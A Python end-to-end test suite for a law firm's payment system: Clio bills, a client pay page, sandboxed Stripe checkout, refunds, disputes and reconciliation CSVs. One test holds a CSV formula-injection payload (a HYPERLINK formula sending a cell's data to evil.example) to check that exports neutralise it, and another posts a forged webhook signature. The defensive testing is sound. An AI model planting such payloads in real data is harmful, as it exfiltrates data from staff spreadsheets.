"""Payments end to end (P2-P7, X2, X4) over HTTP against the local stack: bills sent, the
client's pay page, Stripe Checkout in the Stripe sandbox, its signed webhooks recorded in the
ledger, refunds, reconciliation. Each test uses a firm of its own."""

from __future__ import annotations

import time
from typing import Any

import pytest
import requests

pytestmark = pytest.mark.e2e


class Client:
    """The firm's client, holding the pay link from the email."""

    def __init__(self, pay_url: str) -> None:
        self.pay_url = pay_url

    def page(self) -> dict[str, Any]:
        answer = requests.get(self.pay_url, headers={"Accept": "application/json"}, timeout=30)
        assert answer.status_code == 200, answer.text
        result: dict[str, Any] = answer.json()
        return result

    def outstanding(self) -> dict[str, int]:
        return {b["id"]: b["outstanding_cents"] for b in self.page()["bills"]}

    def checkout(
        self, bill_ids: list[str], method: str = "card", **extra: Any
    ) -> requests.Response:
        body = {"bill_ids": bill_ids, "method": method, **extra}
        return requests.post(f"{self.pay_url}/checkout", json=body, timeout=60)

    def sessions(self, bill_ids: list[str], method: str = "card", **extra: Any) -> list[dict]:
        answer = self.checkout(bill_ids, method, **extra)
        assert answer.status_code == 201, answer.text
        sessions: list[dict] = answer.json()["checkout_sessions"]
        return sessions


def send_bills(
    firm,
    clio,
    specs: list[dict[str, Any]],
    aggregate: bool = True,
    client_name: str = "Pat Client",
) -> tuple[Client, list[str], str]:
    """Staff send the bills in one envelope; answers the client, the bill ids, the link id."""
    settings = firm.get("/settings").json()
    if settings["aggregate_payment_links"] != aggregate:
        settings["aggregate_payment_links"] = aggregate
        assert firm.put("/settings", settings).status_code == 200
    email = f"{clio.account}@client.example"
    made = [
        clio.create_bill(client={"name": client_name, "email": email}, **spec) for spec in specs
    ]
    ids = [str(m["id"]) for m in made]
    wait_synced(firm, ids)
    client, link_id = send_existing(firm, ids)
    return client, ids, link_id


def send_existing(firm, ids: list[str]) -> tuple[Client, str]:
    """Staff send bills already synced in one envelope; answers the client and the link id."""
    drafted = firm.post("/envelopes", {"bill_ids": ids})
    assert drafted.status_code == 201, drafted.text
    (envelope,) = drafted.json()["envelopes"]
    assert firm.post(f"/envelopes/{envelope['id']}/send").status_code == 202
    deadline = time.monotonic() + 60
    while True:
        sent = firm.get(f"/envelopes/{envelope['id']}").json()
        if sent["status"] == "sent":
            break
        assert sent["status"] in ("draft", "sending") and time.monotonic() < deadline, sent
        time.sleep(0.2)
    return Client(sent["payment_url"]), sent["payment_link_id"]


def wait_synced(firm, ids: list[str], timeout: float = 60) -> None:
    """Press Sync until the new bills are listed (a brand-new firm's first, connect-time sync
    may be the run a press joins, and it began before the bills existed)."""
    deadline = time.monotonic() + timeout
    while True:
        firm.sync_now()
        listed = {i["id"] for i in firm.all_invoices("awaiting_payment,paid", 100)}
        if set(ids) <= listed:
            return
        assert time.monotonic() < deadline, f"bills {ids} never synced"


def invoices(firm) -> dict[str, dict[str, Any]]:
    items = firm.all_invoices("awaiting_payment,paid", 100)
    return {i["id"]: i for i in items}


def paid_gl(firm) -> dict[str, int]:
    return {k: v["paid_gl_cents"] for k, v in invoices(firm).items()}


def transactions(firm, link_id: str) -> list[dict[str, Any]]:
    answer = firm.get(f"/payment-links/{link_id}")
    assert answer.status_code == 200, answer.text
    result: list[dict[str, Any]] = answer.json()["transactions"]
    return result


def test_given_two_bills_when_the_client_pays_one_by_card_then_only_that_one_is_paid(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (first, second), link_id = send_bills(
        firm, clio, [{"total_cents": 12_000}, {"total_cents": 8_000}]
    )
    assert client.outstanding() == {first: 12_000, second: 8_000}
    assert client.page()["total_cents"] == 20_000

    (session,) = client.sessions([first])
    assert (session["account"], session["amount_cents"]) == ("operating", 12_000)
    stripe_sandbox.pay(session["id"], "card")

    assert paid_gl(firm)[first] == 12_000 and paid_gl(firm)[second] == 0
    assert client.outstanding() == {first: 0, second: 8_000}
    (txn,) = transactions(firm, link_id)
    assert (txn["kind"], txn["method"], txn["status"], txn["amount_cents"]) == (
        "payment",
        "card",
        "succeeded",
        12_000,
    )
    assert txn["allocations"] == [
        {"bill_id": first, "account": "operating", "amount_cents": 12_000}
    ]
    assert txn["refundable_cents"] == 12_000


def test_given_two_bills_when_the_client_pays_all_then_both_are_paid(new_firm, stripe_sandbox):
    firm, clio = new_firm()
    client, ids, _ = send_bills(firm, clio, [{"total_cents": 12_000}, {"total_cents": 8_000}])
    (session,) = client.sessions(ids)
    assert session["amount_cents"] == 20_000
    stripe_sandbox.pay(session["id"])
    assert [paid_gl(firm)[i] for i in ids] == [12_000, 8_000]
    assert client.page()["total_cents"] == 0


def test_given_a_partial_amount_then_the_oldest_due_bill_is_paid_first(new_firm, stripe_sandbox):
    firm, clio = new_firm()
    client, (later, older), link_id = send_bills(
        firm,
        clio,
        [
            {"total_cents": 10_000, "due_at": "2026-12-20"},
            {"total_cents": 6_000, "due_at": "2026-11-01"},
        ],
    )
    (session,) = client.sessions([later, older], amount_cents=9_000)
    stripe_sandbox.pay(session["id"])
    assert paid_gl(firm)[older] == 6_000 and paid_gl(firm)[later] == 3_000
    assert client.outstanding() == {later: 7_000, older: 0}
    (txn,) = transactions(firm, link_id)
    assert {a["bill_id"]: a["amount_cents"] for a in txn["allocations"]} == {
        older: 6_000,
        later: 3_000,
    }


def test_given_more_than_is_outstanding_then_checkout_is_refused(new_firm, stripe_sandbox):
    firm, clio = new_firm()
    client, ids, link_id = send_bills(firm, clio, [{"total_cents": 5_000}])
    answer = client.checkout(ids, amount_cents=5_001)
    assert answer.status_code == 422
    assert answer.json()["error"]["code"] == "amount_exceeds_payable"
    unknown = client.checkout(["999999"])
    assert unknown.status_code == 422 and unknown.json()["error"]["code"] == "bill_not_on_link"
    assert transactions(firm, link_id) == []


def test_given_an_unknown_pay_token_then_the_page_is_a_404(local_stack):
    answer = requests.get(f"{local_stack.api_url}/pay/not-a-real-token", timeout=30)
    assert answer.status_code == 404
    assert "text/html" in answer.headers["Content-Type"]
    assert "not valid" in answer.text


def test_given_the_pay_page_in_a_browser_then_it_lists_the_bills_with_pay_choices(new_firm):
    firm, clio = new_firm()
    client, _, _ = send_bills(firm, clio, [{"total_cents": 12_345}, {"total_cents": 100}])
    page = requests.get(client.pay_url, timeout=30)
    assert page.status_code == 200 and "text/html" in page.headers["Content-Type"]
    assert page.headers["Referrer-Policy"] == "no-referrer"
    assert "$123.45" in page.text and "Make a payment" in page.text
    assert "The full amount due on the chosen bills" in page.text and "Part of it" in page.text


def test_given_an_ach_payment_then_it_is_pending_until_it_settles(new_firm, stripe_sandbox):
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 30_000}])
    (session,) = client.sessions([bill], method="ach")
    paid = stripe_sandbox.pay(session["id"], "ach")

    (txn,) = transactions(firm, link_id)
    assert (txn["method"], txn["status"]) == ("ach", "pending")
    assert paid_gl(firm)[bill] == 0  # only settled money counts
    assert client.outstanding() == {bill: 0}  # but it cannot be paid twice meanwhile

    stripe_sandbox.control(f"payment_intents/{paid['payment_intent']['id']}/settle")
    (txn,) = transactions(firm, link_id)
    assert txn["status"] == "succeeded"
    assert paid_gl(firm)[bill] == 30_000


def test_given_an_ach_payment_that_fails_then_nothing_is_paid_and_the_bill_is_payable(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 30_000}])
    (session,) = client.sessions([bill], method="ach")
    paid = stripe_sandbox.pay(session["id"], "ach")
    stripe_sandbox.control(f"payment_intents/{paid['payment_intent']['id']}/fail")
    (txn,) = transactions(firm, link_id)
    assert txn["status"] == "failed"
    assert paid_gl(firm)[bill] == 0
    assert client.outstanding() == {bill: 30_000}


def test_given_trust_and_operating_bills_then_two_sessions_each_into_its_account(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (invoice, trust), link_id = send_bills(
        firm,
        clio,
        [{"total_cents": 25_000}, {"total_cents": 40_000, "kind": "trust_request"}],
    )
    sessions = {s["account"]: s for s in client.sessions([invoice, trust])}
    assert {a: s["amount_cents"] for a, s in sessions.items()} == {
        "trust": 40_000,
        "operating": 25_000,
    }
    destinations = {}
    for account, session in sessions.items():
        paid = stripe_sandbox.pay(session["id"])
        destinations[account] = paid["payment_intent"]["transfer_data"]["destination"]
    for account, destination in destinations.items():
        connected = requests.get(
            f"{stripe_sandbox.url}/v1/accounts/{destination}",
            headers={"Authorization": "Bearer sk_test_sandbox"},
            timeout=30,
        ).json()
        assert connected["metadata"] == {"firm_id": clio.account, "account": account}
    assert paid_gl(firm)[trust] == 40_000 and paid_gl(firm)[invoice] == 25_000
    by_account = {t["account"]: t for t in transactions(firm, link_id)}
    assert by_account["trust"]["allocations"] == [
        {"bill_id": trust, "account": "trust", "amount_cents": 40_000}
    ]
    assert by_account["operating"]["allocations"] == [
        {"bill_id": invoice, "account": "operating", "amount_cents": 25_000}
    ]


def test_given_a_card_payment_when_refunded_in_part_then_in_whole_then_paid_gl_follows(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 20_000}])
    (session,) = client.sessions([bill])
    stripe_sandbox.pay(session["id"])
    (payment,) = transactions(firm, link_id)
    refunds = f"/payment-links/{link_id}/transactions/{payment['id']}/refunds"

    part = firm.post(refunds, {"amount_cents": 5_000})
    assert part.status_code == 201, part.text
    assert (part.json()["kind"], part.json()["status"]) == ("refund", "succeeded")
    assert paid_gl(firm)[bill] == 15_000

    too_much = firm.post(refunds, {"amount_cents": 15_001})
    assert too_much.status_code == 422
    assert too_much.json()["error"]["code"] == "refund_exceeds_paid"

    rest = firm.post(refunds, {})
    assert rest.status_code == 201 and rest.json()["amount_cents"] == 15_000
    assert paid_gl(firm)[bill] == 0
    assert "refund_not_in_clio" not in invoices(firm)[bill]["flags"]  # Clio never saw it paid
    payment = next(t for t in transactions(firm, link_id) if t["kind"] == "payment")
    assert (payment["refundable_cents"], payment["refunded_cents"]) == (0, 20_000)


def test_given_an_ach_payment_then_a_partial_refund_is_refused_and_a_whole_one_works(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, ids, link_id = send_bills(firm, clio, [{"total_cents": 7_000}, {"total_cents": 3_000}])
    (session,) = client.sessions(ids, method="ach")
    paid = stripe_sandbox.pay(session["id"], "ach")
    (payment,) = transactions(firm, link_id)
    refunds = f"/payment-links/{link_id}/transactions/{payment['id']}/refunds"

    pending = firm.post(refunds, {})
    assert pending.status_code == 422 and pending.json()["error"]["code"] == "payment_not_settled"

    stripe_sandbox.control(f"payment_intents/{paid['payment_intent']['id']}/settle")
    partial = firm.post(refunds, {"amount_cents": 3_000})
    assert partial.status_code == 422
    assert partial.json()["error"]["code"] == "ach_partial_refund"

    whole = firm.post(refunds, {"amount_cents": 10_000})
    assert whole.status_code == 201, whole.text
    # Bank refunds take days: Paid (GL) falls when Stripe says the refund succeeded.
    assert whole.json()["status"] == "pending"
    assert sum(paid_gl(firm)[i] for i in ids) == 10_000
    refund_id = stripe_sandbox_refund_id(stripe_sandbox, whole.json()["id"])
    stripe_sandbox.control(f"refunds/{refund_id}/succeed")
    assert sum(paid_gl(firm)[i] for i in ids) == 0


def stripe_sandbox_refund_id(stripe_sandbox, our_refund_id: str) -> str:
    for event in reversed(stripe_sandbox.events()):
        refund = event["data"]["object"]
        if (
            refund.get("object") == "refund"
            and refund["metadata"].get("refund_id") == our_refund_id
        ):
            return str(refund["id"])
    raise AssertionError(f"no Stripe refund for {our_refund_id}")


def test_given_a_forged_signature_then_the_event_is_refused_and_nothing_recorded(
    new_firm, stripe_sandbox, local_stack
):
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 9_900}])
    (session,) = client.sessions([bill])
    stripe_sandbox.pay(session["id"])
    event = next(
        e
        for e in stripe_sandbox.events()
        if e["type"] == "checkout.session.completed" and e["data"]["object"]["id"] == session["id"]
    )
    forged = dict(event, id="evt_forged_1")
    answer = requests.post(
        f"{local_stack.api_url}/webhooks/stripe",
        json=forged,
        headers={"Stripe-Signature": "t=1700000000,v1=" + "0" * 64},
        timeout=30,
    )
    assert answer.status_code == 401
    assert answer.json()["error"]["code"] == "invalid_signature"
    unsigned = requests.post(f"{local_stack.api_url}/webhooks/stripe", json=forged, timeout=30)
    assert unsigned.status_code == 401
    assert paid_gl(firm)[bill] == 9_900 and len(transactions(firm, link_id)) == 1


def test_given_every_event_twice_and_out_of_order_then_the_ledger_is_the_same(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, ids, link_id = send_bills(firm, clio, [{"total_cents": 4_000}, {"total_cents": 6_000}])
    stripe_sandbox.control("delivery", {"paused": True})
    try:
        card_session = client.sessions([ids[0]])[0]
        stripe_sandbox.pay(card_session["id"])
        ach_session = client.sessions([ids[1]], method="ach")[0]
        paid = stripe_sandbox.pay(ach_session["id"], "ach")
        stripe_sandbox.control(f"payment_intents/{paid['payment_intent']['id']}/settle")
    finally:
        stripe_sandbox.control("delivery", {"paused": False})
    sessions = {card_session["id"], ach_session["id"]}
    ours = [
        e
        for e in stripe_sandbox.events()
        if (e["data"]["object"].get("metadata") or {}).get("link_id") == link_id
        or e["data"]["object"].get("id") in sessions
    ]
    assert len(ours) >= 4
    for event in reversed(ours):  # newest first: settlement before the checkout completed
        assert stripe_sandbox.resend(event["id"]) == 200
    once = (paid_gl(firm), transactions(firm, link_id))
    for event in ours + list(reversed(ours)):
        assert stripe_sandbox.resend(event["id"]) == 200
    assert (paid_gl(firm), transactions(firm, link_id)) == once
    assert [once[0][i] for i in ids] == [4_000, 6_000]
    assert sorted(t["status"] for t in once[1]) == ["succeeded", "succeeded"]


def test_given_payments_clio_does_not_show_then_reconciliation_lists_them_until_it_does(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (bill,), _ = send_bills(firm, clio, [{"total_cents": 50_000}])
    (session,) = client.sessions([bill], amount_cents=20_000)
    stripe_sandbox.pay(session["id"])

    report = firm.get("/reconciliation").json()["items"]
    assert [(i["bill_id"], i["action"], i["to_record_cents"]) for i in report] == [
        (bill, "record_payment", 20_000)
    ]
    assert "payment_not_in_clio" in invoices(firm)[bill]["flags"]
    csv = firm.get("/reconciliation", format="csv")
    assert csv.status_code == 200 and csv.headers["Content-Type"].startswith("text/csv")
    assert f"{bill}," in csv.text and "record_payment,200.00,USD" in csv.text

    # Staff record the payment in Clio; the next sync sees the balance fall.
    clio.change_bill(int(bill), balance_cents=30_000)
    firm.sync_now()
    assert firm.get("/reconciliation").json()["items"] == []
    assert client.outstanding() == {bill: 30_000}
    assert invoices(firm)[bill]["flags"] == []


def test_given_a_client_named_like_a_formula_when_staff_open_the_reconciliation_csv_then_it_is_text(
    new_firm, stripe_sandbox
):
    import csv
    import io

    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    firm, clio = new_firm()
    client, (bill,), _ = send_bills(firm, clio, [{"total_cents": 5_000}], client_name=hostile)
    (session,) = client.sessions([bill], amount_cents=1_000)
    stripe_sandbox.pay(session["id"])

    answer = firm.get("/reconciliation", format="csv")

    assert answer.status_code == 200, answer.text
    header, *rows = list(csv.reader(io.StringIO(answer.text)))
    (row,) = [r for r in rows if r[0] == bill]
    cells = dict(zip(header, row, strict=True))
    # The leading quote makes a spreadsheet show the name as text instead of running it.
    assert cells["client_name"] == f"'{hostile}"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert (cells["action"], cells["to_record"]) == ("record_payment", "10.00")


def test_given_a_refund_the_bank_returns_then_paid_gl_is_restored(new_firm, stripe_sandbox):
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 8_000}])
    (session,) = client.sessions([bill])
    stripe_sandbox.pay(session["id"])
    (payment,) = transactions(firm, link_id)
    refunded = firm.post(
        f"/payment-links/{link_id}/transactions/{payment['id']}/refunds", {"amount_cents": 3_000}
    )
    assert refunded.status_code == 201 and refunded.json()["status"] == "succeeded"
    assert paid_gl(firm)[bill] == 5_000

    stripe_refund = stripe_sandbox_refund_id(stripe_sandbox, refunded.json()["id"])
    stripe_sandbox.control(f"refunds/{stripe_refund}/fail", {"failure_reason": "unknown"})

    assert paid_gl(firm)[bill] == 8_000
    by_id = {t["id"]: t for t in transactions(firm, link_id)}
    assert by_id[refunded.json()["id"]]["status"] == "failed"
    assert by_id[payment["id"]]["refundable_cents"] == 8_000


def test_given_a_chargeback_then_the_money_leaves_paid_gl_and_the_bill_is_flagged(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 6_500}])
    (session,) = client.sessions([bill])
    paid = stripe_sandbox.pay(session["id"])
    stripe_sandbox.control(f"payment_intents/{paid['payment_intent']['id']}/dispute")
    (payment,) = transactions(firm, link_id)
    assert (payment["disputed"], payment["dispute_status"]) == (True, "needs_response")
    assert "disputed" in invoices(firm)[bill]["flags"]
    # Stripe withdrew the money (charge.dispute.funds_withdrawn): out of Paid (GL), and not
    # payable again while the bank decides.
    assert paid_gl(firm)[bill] == 0
    assert client.outstanding() == {bill: 0}


@pytest.mark.parametrize(
    ("outcome", "paid_after", "flag"), [("lost", 0, "chargeback_lost"), ("won", 6_500, None)]
)
def test_given_a_dispute_when_the_bank_decides_then_paid_gl_follows_the_money(
    new_firm, stripe_sandbox, outcome, paid_after, flag
):
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 6_500}])
    (session,) = client.sessions([bill])
    paid = stripe_sandbox.pay(session["id"])
    opened = stripe_sandbox.control(f"payment_intents/{paid['payment_intent']['id']}/dispute")
    stripe_sandbox.control(f"disputes/{opened['dispute']['id']}/close", {"status": outcome})

    assert paid_gl(firm)[bill] == paid_after
    flags = set(invoices(firm)[bill]["flags"]) & {"disputed", "chargeback_lost", "inquiry"}
    assert flags == ({flag} if flag else set())
    (payment,) = transactions(firm, link_id)
    assert payment["dispute_status"] == outcome


@pytest.mark.parametrize("ending", ["warning_closed", "prevented"])
def test_given_an_inquiry_when_it_closes_then_its_flag_clears_and_no_money_moved(
    new_firm, stripe_sandbox, ending
):
    """Issue 9 finding 9: an inquiry is not a chargeback (no money moves), and an inquiry
    closed as warning_closed (or prevented) no longer leaves its bill flagged."""
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 6_500}])
    (session,) = client.sessions([bill])
    paid = stripe_sandbox.pay(session["id"])
    opened = stripe_sandbox.control(
        f"payment_intents/{paid['payment_intent']['id']}/dispute", {"inquiry": True}
    )
    dispute_id = opened["dispute"]["id"]
    stripe_sandbox.control(f"disputes/{dispute_id}/update", {"status": "warning_under_review"})
    flags = invoices(firm)[bill]["flags"]
    assert "inquiry" in flags and "disputed" not in flags
    assert paid_gl(firm)[bill] == 6_500

    stripe_sandbox.control(f"disputes/{dispute_id}/close", {"status": ending})

    assert not {"inquiry", "disputed"} & set(invoices(firm)[bill]["flags"])
    assert paid_gl(firm)[bill] == 6_500
    (payment,) = transactions(firm, link_id)
    assert payment["dispute_status"] == ending


def test_given_an_inquiry_that_becomes_a_chargeback_won_then_paid_gl_dips_and_returns(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (bill,), _ = send_bills(firm, clio, [{"total_cents": 6_500}])
    (session,) = client.sessions([bill])
    paid = stripe_sandbox.pay(session["id"])
    opened = stripe_sandbox.control(
        f"payment_intents/{paid['payment_intent']['id']}/dispute", {"inquiry": True}
    )
    dispute_id = opened["dispute"]["id"]
    stripe_sandbox.control(f"disputes/{dispute_id}/update", {"status": "needs_response"})
    assert paid_gl(firm)[bill] == 0 and "disputed" in invoices(firm)[bill]["flags"]
    stripe_sandbox.control(f"disputes/{dispute_id}/update", {"status": "under_review"})
    stripe_sandbox.control(f"disputes/{dispute_id}/close", {"status": "won"})
    assert paid_gl(firm)[bill] == 6_500
    assert not {"inquiry", "disputed"} & set(invoices(firm)[bill]["flags"])


@pytest.mark.parametrize("state", ["void", "deleted"])
def test_given_a_bill_voided_or_deleted_in_clio_then_it_cannot_be_paid(
    new_firm, stripe_sandbox, state
):
    """Issue 9 finding 1: a void or deleted bill (keeping its balance) is not payable."""
    firm, clio = new_firm()
    client, (bill, other), link_id = send_bills(
        firm, clio, [{"total_cents": 12_000}, {"total_cents": 3_000}]
    )
    clio.change_bill(int(bill), state=state)
    firm.sync_now()

    assert client.outstanding() == {bill: 0, other: 3_000}
    page = {b["id"]: b for b in client.page()["bills"]}
    assert "can no longer be paid" in page[bill]["note"]
    refused = client.checkout([bill])
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["code"] == "bill_not_payable"
    assert transactions(firm, link_id) == []
    html = requests.get(client.pay_url, timeout=30).text
    assert "can no longer be paid online" in html


def test_given_a_bill_voided_after_checkout_then_the_payment_is_kept_and_to_refund_or_apply(
    new_firm, stripe_sandbox
):
    firm, clio = new_firm()
    client, (bill,), _ = send_bills(firm, clio, [{"total_cents": 12_000}])
    (session,) = client.sessions([bill])
    clio.change_bill(int(bill), state="void")
    firm.sync_now()
    stripe_sandbox.pay(session["id"])  # the client had the checkout page open already

    report = firm.get("/reconciliation").json()["items"]
    assert [(i["bill_id"], i["action"], i["amount_cents"]) for i in report] == [
        (bill, "refund_or_apply", 12_000)
    ]
    assert report[0]["note"].startswith("Refund $120.00 to the client, or apply it")
    listed = {i["id"]: i for i in firm.all_invoices("void", 100)}
    assert listed[bill]["paid_gl_cents"] == 12_000
    assert "paid_but_unpayable" in listed[bill]["flags"]


def test_given_one_bill_on_two_payment_links_then_it_is_collected_once(new_firm, stripe_sandbox):
    """Issue 9 finding 2: send [X] (link 1), then [X, Y] (link 2); check X out on both."""
    firm, clio = new_firm()
    first, (x,), link_1 = send_bills(firm, clio, [{"total_cents": 20_000}])
    y = str(
        clio.create_bill(
            client={"name": "Pat Client", "email": f"{clio.account}@client.example"},
            total_cents=5_000,
        )["id"]
    )
    wait_synced(firm, [y])
    second, link_2 = send_existing(firm, [x, y])
    assert link_2 != link_1

    (session,) = first.sessions([x])
    refused = second.checkout([x])
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["code"] == "bill_being_paid"
    assert second.outstanding() == {x: 0, y: 5_000}

    stripe_sandbox.pay(session["id"])
    again = second.checkout([x])
    assert again.status_code == 422 and again.json()["error"]["code"] == "nothing_payable"
    assert paid_gl(firm)[x] == 20_000
    (only,) = second.sessions([y])  # the other bill of link 2 is still payable
    assert only["amount_cents"] == 5_000


def test_given_a_second_checkout_then_the_first_session_can_no_longer_be_paid(
    new_firm, stripe_sandbox
):
    """A client with two tabs open cannot pay the same bill twice: starting a checkout closes
    the link's sessions still open."""
    firm, clio = new_firm()
    client, (bill,), link_id = send_bills(firm, clio, [{"total_cents": 7_500}])
    (first,) = client.sessions([bill])
    (second,) = client.sessions([bill])
    refused = requests.post(
        f"{stripe_sandbox.url}/_sandbox/checkout_sessions/{first['id']}/pay",
        json={"method": "card", "outcome": "succeeded"},
        timeout=30,
    )
    assert refused.status_code == 409, refused.text
    stripe_sandbox.pay(second["id"])
    assert paid_gl(firm)[bill] == 7_500
    assert [t["amount_cents"] for t in transactions(firm, link_id)] == [7_500]
